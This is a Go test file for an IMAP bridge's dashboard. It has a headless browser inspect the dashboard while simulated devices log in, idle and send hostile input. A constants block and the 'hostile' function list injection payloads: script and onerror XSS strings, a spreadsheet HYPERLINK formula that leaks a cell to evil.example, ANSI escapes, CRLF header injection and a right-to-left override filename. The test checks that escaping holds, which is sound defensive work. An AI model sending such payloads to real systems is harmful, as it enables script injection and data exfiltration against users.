package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"drawbridge/internal/sandbox"
	"drawbridge/internal/terminal"
	"drawbridge/inventory"
)

// TestDashboard_InABrowser has Debian's Chromium, driven by playwright-core (npm), do an administrator's morning on the
// dashboard of a bridge that the demo's fleet has been through; the devices that the browser waits for are played here.
// DRAWBRIDGE_PLAYWRIGHT names the folder with node_modules, and DRAWBRIDGE_SCREENSHOTS where pictures are kept.
func TestDashboard_InABrowser(t *testing.T) {
	t.Parallel()
	playwright, chromium := findBrowser(t)
	m := newMorning(t)
	totals := m.settled()
	fleet, err := json.Marshal(map[string]int64{"devices": totals.Devices, "ready": totals.Readiness["ready"], "strangers": totals.Strangers})
	must(t, err)
	if totals.Devices < 10 || totals.Strangers != 1 || totals.Readiness["ready"] != 1 {
		t.Errorf("totals of the demo's fleet: %s", fleet)
	}
	shots := os.Getenv("DRAWBRIDGE_SCREENSHOTS")
	if shots == "" {
		shots = t.TempDir()
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	node := exec.CommandContext(ctx, "node", filepath.Join("testdata", "dashboard", "visit.mjs"))
	node.Env = append(os.Environ(), "DRAWBRIDGE_URL="+strings.TrimSuffix(m.scene.dashboard(), "/"), "DRAWBRIDGE_PASSWORD="+m.scene.password,
		"DRAWBRIDGE_SHOTS="+shots, "DRAWBRIDGE_PLAYWRIGHT="+playwright, "DRAWBRIDGE_CHROMIUM="+chromium, "DRAWBRIDGE_FLEET="+string(fleet))
	m.answer(node)
}

// morning is a bridge that the demo's fleet has been through, and what the devices do next.
type morning struct {
	t     *testing.T
	scene *scene
	fleet []sandbox.Device
	idle  *client // nil: nobody idles
}

func newMorning(t *testing.T) *morning {
	t.Helper()
	m := &morning{t: t, fleet: sandbox.ModernFleet()}
	var err error
	m.scene, err = newScene(m.fleet)
	must(t, err)
	t.Cleanup(m.scene.close)
	quiet := &printer{terminal.Printer{Out: io.Discard}}
	for _, d := range m.fleet {
		if !quiet.visit(t.Context(), m.scene, d) {
			t.Errorf("%s did not end as it should", d.Name)
		}
	}
	return m
}

// settled waits until the inventory tells of every session that was recorded.
func (m *morning) settled() inventory.Totals {
	m.t.Helper()
	var totals inventory.Totals
	until(m.t, "the inventory to tell of all sessions", func() bool {
		var err error
		totals, err = m.scene.bridge.ledger.Totals(m.t.Context())
		must(m.t, err)
		return totals.Sessions == m.scene.records.count.Load()
	})
	return totals
}

// answer runs node and does what it asks for.
func (m *morning) answer(node *exec.Cmd) {
	m.t.Helper()
	questions, out := io.Pipe()
	var faults bytes.Buffer
	node.Stdout, node.Stderr, node.WaitDelay = out, &faults, 10*time.Second
	answers, err := node.StdinPipe()
	must(m.t, err)
	must(m.t, node.Start())
	ended := make(chan error, 1)
	go func() {
		ended <- node.Wait()
		_ = out.Close()
	}()
	for lines := bufio.NewScanner(questions); lines.Scan(); {
		if question, ok := strings.CutPrefix(lines.Text(), "> "); ok {
			_, _ = fmt.Fprintln(answers, m.play(question))
		}
	}
	if err := <-ended; err != nil {
		m.t.Errorf("node testdata/dashboard/visit.mjs: %v\n%s", err, &faults)
	}
}

// play has devices do what the browser wants to see.
func (m *morning) play(what string) (answer string) {
	switch what {
	case "fax307 logs in":
		c := m.dial(tls.VersionTLS10)
		c.say("a LOGIN fax307 30714")
		answer = strings.TrimPrefix(c.hear("a "), "a ")
		m.leaves(c)
	case "alarm idles":
		m.idle = m.dial(tls.VersionTLS11)
		m.idle.say(m.login("alarm"))
		m.idle.hear("a OK")
		m.idle.say("b IDLE")
		m.idle.hear("+")
	case "alarm leaves":
		m.idle.say("DONE")
		m.idle.hear("b OK")
		m.leaves(m.idle)
	case "hostile devices come":
		m.hostile()
	case "report":
		answer = filepath.Join(m.t.TempDir(), "report.html")
		must(m.t, os.WriteFile(answer, m.export("html"), 0o600))
	default:
		m.t.Errorf("the browser asks for %q", what)
	}
	return answer
}

func (m *morning) dial(version uint16) *client {
	m.t.Helper()
	c := dial(m.t, m.scene.address(sandbox.Device{Protocol: sandbox.IMAP}), version)
	c.hear("* OK")
	return c
}

// login is the command by which an account of the fleet logs in.
func (m *morning) login(account string) string {
	m.t.Helper()
	i := slices.IndexFunc(m.fleet, func(d sandbox.Device) bool { return d.Account == account })
	if i < 0 {
		m.t.Fatalf("the fleet has no %s", account)
	}
	return fmt.Sprintf("a LOGIN %q %q", account, m.fleet[i].Password)
}

// leaves ends a session, and waits until the inventory tells of it.
func (m *morning) leaves(c *client) {
	m.t.Helper()
	before := m.scene.records.count.Load()
	must(m.t, c.Close())
	until(m.t, "the session's record", func() bool { return m.scene.records.count.Load() > before })
	m.settled()
}

// What a device may send to harm whoever looks at it.
const (
	markup  = "<script>alert(1)</script>"
	image   = "<img src=x onerror=alert(2)>"
	formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	ansi    = "\x1b]0;owned\x07\x1b[31mred"
	newline = "x\r\nSet-Cookie: a=b\r\n\r\n<b>owned</b>"
)

// hostile has a device that is known send harmful words of itself, and strangers claim harmful names.
func (m *morning) hostile() {
	m.t.Helper()
	known := m.dial(tls.VersionTLS11)
	known.say(fmt.Sprintf(`i ID ("name" %s "vendor" %s "os" %s)`, quoted(markup), quoted(formula), quoted(image)))
	known.hear("i ")
	known.say(m.login("alarm"))
	known.hear("a OK")
	m.leaves(known)
	for _, name := range []string{markup, image, formula, ansi, newline, "\u202egnp.exe", strings.Repeat("A", 900)} {
		c := m.dialNamed(image)
		c.say(fmt.Sprintf("a LOGIN {%d}", len(name)))
		if strings.HasPrefix(c.line(), "+") {
			c.say(name + " wrong")
			_ = c.line()
		}
		m.leaves(c)
	}
}

// dialNamed is a device whose hello asks for a server of this name.
func (m *morning) dialNamed(name string) *client {
	m.t.Helper()
	c := dial(m.t, m.scene.address(sandbox.Device{Protocol: sandbox.IMAP}), 0)
	cfg := deviceConfig(tls.VersionTLS10)
	cfg.ServerName = name
	secure := tls.Client(c.Conn, cfg)
	must(m.t, secure.HandshakeContext(m.t.Context()))
	c.Conn, c.r = secure, bufio.NewReader(secure)
	c.hear("* OK")
	return c
}

// quoted is an IMAP quoted string.
func quoted(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}

// export is what the command makes of the bridge's journal.
func (m *morning) export(format string) []byte {
	m.t.Helper()
	var stdout, stderr bytes.Buffer
	args := []string{"inventory", "--format", format}
	for _, file := range journalFiles(m.t, m.scene.bridge.cfg().DataDir) {
		args = append(args, "--from", file)
	}
	if code := run(m.t.Context(), args, &stdout, &stderr); code != exitDone {
		m.t.Errorf("drawbridge %s: exit %d, %s", strings.Join(args, " "), code, &stderr)
	}
	return stdout.Bytes()
}

// findBrowser finds playwright-core and Chromium; without them the test is skipped, and fails where a CI machine has everything.
func findBrowser(t *testing.T) (playwright, chromium string) {
	t.Helper()
	missing := t.Skip
	if os.Getenv("CI") == "true" {
		missing = t.Fatal
	}
	playwright = os.Getenv("DRAWBRIDGE_PLAYWRIGHT")
	if playwright == "" {
		cache, err := os.UserCacheDir()
		must(t, err)
		playwright = filepath.Join(cache, "drawbridge-test", "playwright")
	}
	if _, err := os.Stat(filepath.Join(playwright, "node_modules", "playwright-core")); err != nil {
		missing("playwright-core is missing: npm install --prefix " + playwright + " playwright-core@1.65.1")
	}
	if _, err := exec.LookPath("node"); err != nil {
		missing("node is missing: apt-get install nodejs")
	}
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		missing("chromium is missing: apt-get install chromium")
	}
	return playwright, chromium
}
